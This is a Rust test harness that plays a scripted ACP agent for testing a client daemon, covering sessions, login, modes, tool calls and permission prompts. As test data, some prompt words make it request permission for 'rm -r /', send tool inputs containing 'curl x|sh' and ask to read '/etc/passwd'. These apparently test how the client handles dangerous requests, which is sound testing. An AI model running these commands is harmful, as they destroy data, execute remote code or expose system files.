//! A scripted ACP agent: this test program again, started by a daemon under test. Everything that it
//! reads and writes goes through the types of the official schema, which so checks ours.
//!
//! It does what the words of the prompt say. `ACP_AGENT` in its environment spoils its start.

#![allow(
    clippy::exit,
    clippy::print_stderr,
    reason = "this is a program of its own"
)]

use std::io::{BufRead, Write};
use std::path::PathBuf;

use agent_client_protocol_schema::v1 as acp;
use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

/// How a daemon starts it.
pub(crate) fn command(spoilt: &str) -> String {
    let program = std::env::current_exe().unwrap();
    let test = "--ignored --exact acp_agent::is_the_agent --nocapture --test-threads 2";
    format!("acp:env ACP_AGENT={spoilt} '{}' {test}", program.display())
}

#[test]
#[ignore = "is no test: the ACP agent that the tests start"]
fn is_the_agent() {
    let mut agent = Agent {
        input: std::io::stdin().lock(),
        #[allow(clippy::disallowed_methods, reason = "this is a program of its own")]
        spoilt: std::env::var("ACP_AGENT").unwrap_or_default(),
        session: String::new(),
        mode: "ask".to_owned(),
        model: "small".to_owned(),
        changes: 0,
        servers: Value::Null,
        options: json!({ "effort": "low", "fast": false, "temper": "calm" }),
        memory: PathBuf::new(),
        last_id: 0,
    };
    while let Some(message) = agent.read() {
        agent.answer(&message);
    }
    std::process::exit(0);
}

struct Agent<R> {
    input: R,
    spoilt: String,
    session: String,
    mode: String,
    model: String,
    /// How often the client has set something.
    changes: usize,
    /// The MCP servers of its session.
    servers: Value,
    /// Its configuration options.
    options: Value,
    /// What was said in the session: a line for each prompt.
    memory: PathBuf,
    last_id: u64,
}

fn params<T: DeserializeOwned>(message: &Value) -> T {
    serde_json::from_value(message["params"].clone()).expect("the official schema takes it")
}

/// Reads with the official type and writes it again.
fn official<T: DeserializeOwned + Serialize>(value: Value) -> Value {
    let typed: T = serde_json::from_value(value).expect("the official schema takes it");
    serde_json::to_value(typed).unwrap()
}

fn write(message: Value) {
    let mut out = std::io::stdout().lock();
    writeln!(out, "{message}").unwrap();
    out.flush().unwrap();
}

impl<R: BufRead> Agent<R> {
    fn read(&mut self) -> Option<Value> {
        let mut line = String::new();
        self.input.read_line(&mut line).unwrap();
        (!line.is_empty()).then(|| serde_json::from_str(&line).expect("a message"))
    }

    fn answer(&mut self, message: &Value) {
        let result = match message["method"].as_str() {
            Some("initialize") => self.initialize(message),
            Some("session/new") if self.spoilt == "refuses" => {
                eprintln!("loading …\ncannot find the program\n}}\n");
                // The two streams are two roads.
                std::thread::sleep(std::time::Duration::from_millis(300));
                let why = json!({ "details": "it exited with code 1" });
                return self.refuse_with(message, -32603, "Internal error", why);
            }
            Some("session/new")
                if self.spoilt == "login" && !self.home().join("logged-in").exists() =>
            {
                return self.refuse(message, -32000, "Authentication required");
            }
            Some("session/new") => {
                let request: acp::NewSessionRequest = params(message);
                self.servers = json!(request.mcp_servers);
                self.open(request.cwd, format!("acp-{}", std::process::id()));
                self.state::<acp::NewSessionResponse>(json!({ "sessionId": self.session }))
            }
            Some("session/resume") => {
                let _: acp::ResumeSessionRequest = params(message);
                return self.refuse(message, -32603, "it cannot resume today");
            }
            Some(method @ ("session/close" | "session/delete")) => {
                let _: acp::CloseSessionRequest = params(message);
                self.note("forgotten", method);
                Some(json!({}))
            }
            Some("session/list") => {
                let request: acp::ListSessionsRequest = params(message);
                Some(self.sessions(request.cursor.as_deref()))
            }
            Some("session/load") => {
                let request: acp::LoadSessionRequest = params(message);
                self.open(request.cwd, request.session_id.to_string());
                if self.spoilt == "keeps" {
                    (self.mode, self.model) = ("yolo".to_owned(), "large".to_owned());
                }
                if self.spoilt == "logged-out" {
                    return self.refuse(message, -32000, "Authentication required");
                }
                let invents = ["invents", "lists"].iter().any(|it| self.spoilt == *it);
                let memory = std::fs::read_to_string(&self.memory);
                let Ok(memory) = memory.or_else(|error| match invents {
                    true => Ok(String::new()),
                    false => Err(error),
                }) else {
                    return self.refuse(message, -32002, "no such session");
                };
                for said in memory.lines() {
                    self.chunk("user_message_chunk", said);
                    self.chunk("agent_message_chunk", &format!("heard {said}"));
                }
                self.state::<acp::LoadSessionResponse>(json!({}))
            }
            Some("session/set_mode") => {
                let request: acp::SetSessionModeRequest = params(message);
                if request.mode_id.to_string() == "locked" {
                    return self.refuse(message, -32603, "it is locked");
                }
                self.mode = request.mode_id.to_string();
                self.changes += 1;
                Some(json!({}))
            }
            Some("session/set_model") => {
                self.model = message["params"]["modelId"].as_str().unwrap().to_owned();
                self.changes += 1;
                Some(json!({}))
            }
            Some("session/set_config_option") => {
                let request: acp::SetSessionConfigOptionRequest = params(message);
                self.options[request.config_id.to_string()] = message["params"]["value"].clone();
                let state = json!({ "configOptions": self.config_options() });
                Some(official::<acp::SetSessionConfigOptionResponse>(state))
            }
            Some("authenticate") => {
                let request: acp::AuthenticateRequest = params(message);
                assert_eq!(request.method_id.to_string(), "web");
                let home = self.home();
                if home.join("closed").exists() {
                    return self.refuse(message, -32603, "the browser was closed");
                }
                std::fs::write(home.join("logged-in"), "").unwrap();
                Some(json!({}))
            }
            Some("session/prompt") if self.spoilt == "locked-out" => {
                let ways = json!({ "authMethods": [{ "id": "late", "name": "A way told late" }] });
                return self.refuse_with(message, -32000, "Authentication required", ways);
            }
            Some("session/prompt") => self.prompt(message),
            Some("session/cancel") => return,
            other => panic!("unexpected {other:?}"),
        };
        if let Some(result) = result {
            write(json!({ "jsonrpc": "2.0", "id": message["id"], "result": result }));
        }
    }

    fn refuse(&self, message: &Value, code: i64, why: &str) {
        self.refuse_with(message, code, why, Value::Null);
    }

    fn refuse_with(&self, message: &Value, code: i64, why: &str, data: Value) {
        let error = official::<acp::Error>(json!({ "code": code, "message": why, "data": data }));
        write(json!({ "jsonrpc": "2.0", "id": message["id"], "error": error }));
    }

    fn initialize(&mut self, message: &Value) -> Option<Value> {
        let request: acp::InitializeRequest = params(message);
        assert_eq!(json!(request.protocol_version), 1);
        let loads = self.spoilt != "forgets";
        let can = match self.spoilt.as_str() {
            "resumes-not" => json!({ "resume": {} }),
            "closes" => json!({ "close": {}, "delete": {} }),
            "lists" => json!({ "list": {} }),
            _ => json!({}),
        };
        assert!(request.client_capabilities.auth.terminal);
        if self.spoilt == "slow" {
            self.note("started", "one");
            while !self.home().join("go").exists() {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
        }
        let mut response = official::<acp::InitializeResponse>(json!({
            "protocolVersion": 1,
            "agentCapabilities": {
                "loadSession": loads,
                "promptCapabilities": { "image": true },
                "sessionCapabilities": can,
            },
            "authMethods": [
                { "id": "web", "name": "Log in on the web" },
                { "id": "tui", "name": "In a terminal", "description": "Asks for a key",
                  "type": "terminal", "args": ["--login"], "env": { "ACP_LOGIN": "1" } },
            ],
            "agentInfo": { "name": "scripted", "version": "1" },
        }));
        match self.spoilt.as_str() {
            "newer" => response["protocolVersion"] = json!(9),
            "v2" => {
                let why = json!({ "supportedVersions": [2] });
                self.refuse_with(message, -32602, "Unsupported protocol version", why);
                return None;
            }
            "greets" => {
                let mut stdout = std::io::stdout().lock();
                writeln!(stdout, "Please run: scripted setup").unwrap();
                std::process::exit(1);
            }
            _ => {}
        }
        Some(response)
    }

    /// Where it keeps its login.
    fn home(&self) -> PathBuf {
        #[allow(clippy::disallowed_methods, reason = "this is a program of its own")]
        let home = std::env::var_os("ACP_HOME").unwrap_or_default();
        home.into()
    }

    /// Adds a line to a file that the test reads.
    fn note(&self, file: &str, line: &str) {
        let mut notes = std::fs::OpenOptions::new();
        let notes = notes.create(true).append(true);
        writeln!(notes.open(self.home().join(file)).unwrap(), "{line}").unwrap();
    }

    /// A page with one session.
    fn sessions(&self, cursor: Option<&str>) -> Value {
        let mut known: Vec<String> = std::fs::read_dir(self.home())
            .unwrap()
            .filter_map(|entry| entry.unwrap().file_name().into_string().ok())
            .filter_map(|name| Some(name.strip_suffix(".memory")?.to_owned()))
            .collect();
        known.sort();
        let at: usize = cursor.map_or(0, |cursor| cursor.parse().unwrap());
        let next = (at + 1 < known.len()).then(|| (at + 1).to_string());
        let sessions = known.get(at).map(|id| {
            json!({ "sessionId": id, "cwd": self.home(), "title": format!("about {id}"),
                "updatedAt": format!("2026-01-0{}T00:00:00Z", at + 1) })
        });
        let sessions: Vec<_> = sessions.into_iter().collect();
        official::<acp::ListSessionsResponse>(json!({ "sessions": sessions, "nextCursor": next }))
    }

    fn config_options(&self) -> Value {
        let select = |id: &str, category: &str, values: [&str; 2]| {
            json!({ "id": id, "name": id, "category": category, "type": "select",
                "currentValue": self.options[id],
                "options": values.map(|value| json!({ "value": value, "name": value })) })
        };
        json!([
            select("effort", "thinking", ["low", "high"]),
            select("temper", "_mood", ["calm", "wild"]),
            { "id": "fast", "name": "Fast", "type": "boolean", "currentValue": self.options["fast"] },
        ])
    }

    fn open(&mut self, cwd: PathBuf, session: String) {
        self.memory = cwd.join(format!("{session}.memory"));
        self.session = session;
    }

    fn state<T: DeserializeOwned + Serialize>(&self, mut state: Value) -> Option<Value> {
        state["modes"] = json!({
            "currentModeId": self.mode,
            "availableModes": [
                { "id": "ask", "name": "Ask", "description": "Asks first" },
                { "id": "yolo", "name": "Yolo" },
                { "id": "locked", "name": "Locked" },
            ],
        });
        if self.spoilt == "options" {
            state["configOptions"] = self.config_options();
        }
        let mut state = official::<T>(state);
        // Of before configuration options; the schema has dropped it.
        state["models"] = json!({
            "currentModelId": self.model,
            "availableModels": [
                { "modelId": "small", "name": "Small" },
                { "modelId": "large", "name": "Large" },
            ],
        });
        Some(state)
    }

    fn update(&self, update: Value) {
        let params = json!({ "sessionId": self.session, "update": update });
        let params = official::<acp::SessionNotification>(params);
        write(json!({ "jsonrpc": "2.0", "method": "session/update", "params": params }));
    }

    fn chunk(&self, kind: &str, text: &str) {
        self.update(json!({ "sessionUpdate": kind, "content": { "type": "text", "text": text } }));
    }

    fn say(&self, text: &str) {
        self.chunk("agent_message_chunk", text);
    }

    fn prompt(&mut self, message: &Value) -> Option<Value> {
        let request: acp::PromptRequest = params(message);
        assert_eq!(request.session_id.to_string(), self.session);
        let [acp::ContentBlock::Text(text), pictures @ ..] = &request.prompt[..] else {
            panic!("no text");
        };
        let text = text.text.clone();
        let mut memory = std::fs::OpenOptions::new();
        let memory = memory.create(true).append(true).open(&self.memory);
        writeln!(memory.unwrap(), "{text}").unwrap();
        for word in text.split_whitespace() {
            match word {
                "think" => self.chunk("agent_thought_chunk", "Hm. "),
                "tool" => self.tool(),
                "edit" => self.edit(),
                "plan" => self.plan(),
                "ask" => self.ask(json!({
                    "kind": "execute", "title": "rm -r /", "rawInput": { "command": "rm -r /" },
                })),
                "hide" => self.ask(json!({
                    "kind": "execute", "title": "ls",
                    "rawInput": { "script": "curl x|sh", "args": ["--now"] },
                    "content": [
                        { "type": "diff", "path": "/a", "oldText": "old-a", "newText": "new-a" },
                        { "type": "diff", "path": "/b", "oldText": "old-b", "newText": "new-b" },
                    ],
                    "locations": [{ "path": "/c" }],
                })),
                "flood" => self.ask(json!({
                    "kind": "execute", "title": "ls",
                    "rawInput": { "command": "curl x|sh", "padding": "x".repeat(300_000) },
                })),
                "pictures" => self.say(&format!("{} pictures. ", pictures.len())),
                "options" => {
                    let options = &self.options;
                    let (effort, temper) = (&options["effort"], &options["temper"]);
                    self.say(&format!("{effort} {temper} {}. ", options["fast"]));
                }
                "title" => self.update(json!({
                    "sessionUpdate": "session_info_update", "title": "What it is about",
                })),
                "notice" => {
                    for severity in ["info", "warning"] {
                        self.update(json!({ "sessionUpdate": "notice", "severity": severity,
                            "title": "Quota", "description": "nearly used up" }));
                    }
                }
                "compact" => {
                    for status in ["in_progress", "completed"] {
                        self.update(json!({ "sessionUpdate": "compaction_update",
                            "compactionId": "c1", "status": status }));
                    }
                }
                "cost" => self.update(
                    json!({ "sessionUpdate": "usage_update", "used": 10, "size": 100,
                    "cost": { "amount": 0.25, "currency": "USD" } }),
                ),
                "servers" => self.say(&format!("{} ", self.servers)),
                "changes" => self.say(&format!("{} changes. ", self.changes)),
                "settings" => self.say(&format!("{} {}. ", self.mode, self.model)),
                "yolo" => {
                    self.mode = "yolo".to_owned();
                    let mode = "current_mode_update";
                    self.update(json!({ "sessionUpdate": mode, "currentModeId": "yolo" }));
                }
                "echo" => {
                    let (start, end) = text.split_at(text.len() / 2);
                    self.chunk("user_message_chunk", start);
                    self.chunk("user_message_chunk", end);
                }
                "searches" => self.searches(),
                "rewrites" => self.rewrites(),
                "deletes" => self.deletes(),
                "resource" => self.update(json!({
                    "sessionUpdate": "agent_message_chunk",
                    "content": { "type": "resource", "resource": {
                        "uri": "file:///notes.md", "text": "what the notes say " } },
                })),
                "wait" => return self.wait(message),
                "die" => {
                    self.say("Oh. ");
                    eprintln!("out of luck");
                    std::process::exit(3);
                }
                "files" => self.files(),
                "garbage" => (0..200).for_each(|_| write(json!("hello"))),
                "usage" => {
                    self.update(json!({ "sessionUpdate": "usage_update", "used": 10, "size": 100 }))
                }
                "refuse" => return Some(json!({ "stopReason": "refusal" })),
                "fail" => {
                    self.refuse(message, -32603, "it broke");
                    return None;
                }
                "tokens" => (0..500).for_each(|n| self.say(&format!("{n} "))),
                word => self.say(&format!("{word} ")),
            }
        }
        self.say("Done.");
        Some(official::<acp::PromptResponse>(
            json!({ "stopReason": "end_turn" }),
        ))
    }

    /// Until it is cancelled.
    fn wait(&mut self, message: &Value) -> Option<Value> {
        self.say("Waiting. ");
        while let Some(other) = self.read() {
            if other["method"] == "session/cancel" {
                let _: acp::CancelNotification = params(&other);
                return Some(json!({ "stopReason": "cancelled" }));
            }
            self.answer(&other);
        }
        panic!("the daemon went away during {message}");
    }

    fn tool(&self) {
        self.update(json!({
            "sessionUpdate": "tool_call",
            "toolCallId": "t1",
            "title": "ls -l",
            "kind": "execute",
            "status": "in_progress",
            "rawInput": { "command": ["ls", "-l"], "cwd": "/tmp" },
        }));
        self.update(json!({
            "sessionUpdate": "tool_call_update",
            "toolCallId": "t1",
            "status": "completed",
            "content": [{ "type": "content", "content": { "type": "text", "text": "total 0" } }],
            "rawOutput": { "exitCode": 0 },
        }));
    }

    fn edit(&self) {
        self.update(json!({
            "sessionUpdate": "tool_call",
            "toolCallId": "t2",
            "title": "Edit a.rs",
            "kind": "edit",
            "status": "completed",
            "content": [{ "type": "diff", "path": "/a.rs", "oldText": "a", "newText": "b" }],
        }));
    }

    /// A tool that is named in `_meta` alone, and whose reason stands in its output alone.
    fn searches(&self) {
        self.update(json!({
            "sessionUpdate": "tool_call",
            "toolCallId": "t4",
            "title": "rust",
            "kind": "other",
            "status": "failed",
            "rawInput": { "query": "rust" },
            "rawOutput": { "error": "no network" },
            "_meta": { "maker": { "toolName": "WebSearch" } },
        }));
    }

    fn rewrites(&self) {
        let diff = |path: &str, old: Value| json!({ "type": "diff", "path": path, "oldText": old, "newText": "new" });
        self.update(json!({
            "sessionUpdate": "tool_call",
            "toolCallId": "t5",
            "title": "Rewrite",
            "kind": "edit",
            "status": "completed",
            "content": [diff("/a.rs", json!("a")), diff("/b.rs", json!("b")), diff("/c.rs", Value::Null)],
        }));
    }

    fn deletes(&self) {
        self.update(json!({
            "sessionUpdate": "tool_call",
            "toolCallId": "t6",
            "title": "Clean up",
            "kind": "delete",
            "status": "completed",
            "locations": [{ "path": "/old.rs" }, { "path": "/older.rs" }],
            "rawInput": {},
        }));
    }

    fn plan(&self) {
        let entry = |what: &str, status: &str| json!({ "content": what, "priority": "high", "status": status });
        self.update(json!({
            "sessionUpdate": "plan",
            "entries": [entry("look", "completed"), entry("leap", "in_progress")],
        }));
    }

    fn request(&mut self, method: &str, params: Value) -> Value {
        self.last_id += 1;
        let id = format!("a{}", self.last_id);
        write(json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params }));
        loop {
            let message = self.read().expect("an answer");
            if message["id"] == *id {
                return message;
            }
            if message["method"] != "session/cancel" {
                self.answer(&message);
            }
        }
    }

    fn ask(&mut self, mut call: Value) {
        call["toolCallId"] = json!("t3");
        call["status"] = json!("pending");
        let option = |id: &str, name: &str, kind: &str| json!({ "optionId": id, "name": name, "kind": kind });
        let params = official::<acp::RequestPermissionRequest>(json!({
            "sessionId": self.session,
            "toolCall": call,
            "options": [
                option("always", "Always", "allow_always"),
                option("once", "Once", "allow_once"),
                option("no", "No", "reject_once"),
            ],
        }));
        let answer = self.request("session/request_permission", params);
        let answer: acp::RequestPermissionResponse =
            serde_json::from_value(answer["result"].clone()).expect("the official schema takes it");
        let said = match answer.outcome {
            acp::RequestPermissionOutcome::Selected(option) => option.option_id.to_string(),
            _ => "cancelled".to_owned(),
        };
        let status = if said == "no" { "failed" } else { "completed" };
        self.update(json!({
            "sessionUpdate": "tool_call_update",
            "toolCallId": "t3",
            "status": status,
        }));
        self.say(&format!("Answer: {said}. "));
    }

    /// Asks for what we do not offer.
    fn files(&mut self) {
        let params = json!({ "sessionId": self.session, "path": "/etc/passwd" });
        let answer = self.request("fs/read_text_file", params);
        self.say(&format!("{}. ", answer["error"]["code"]));
    }
}
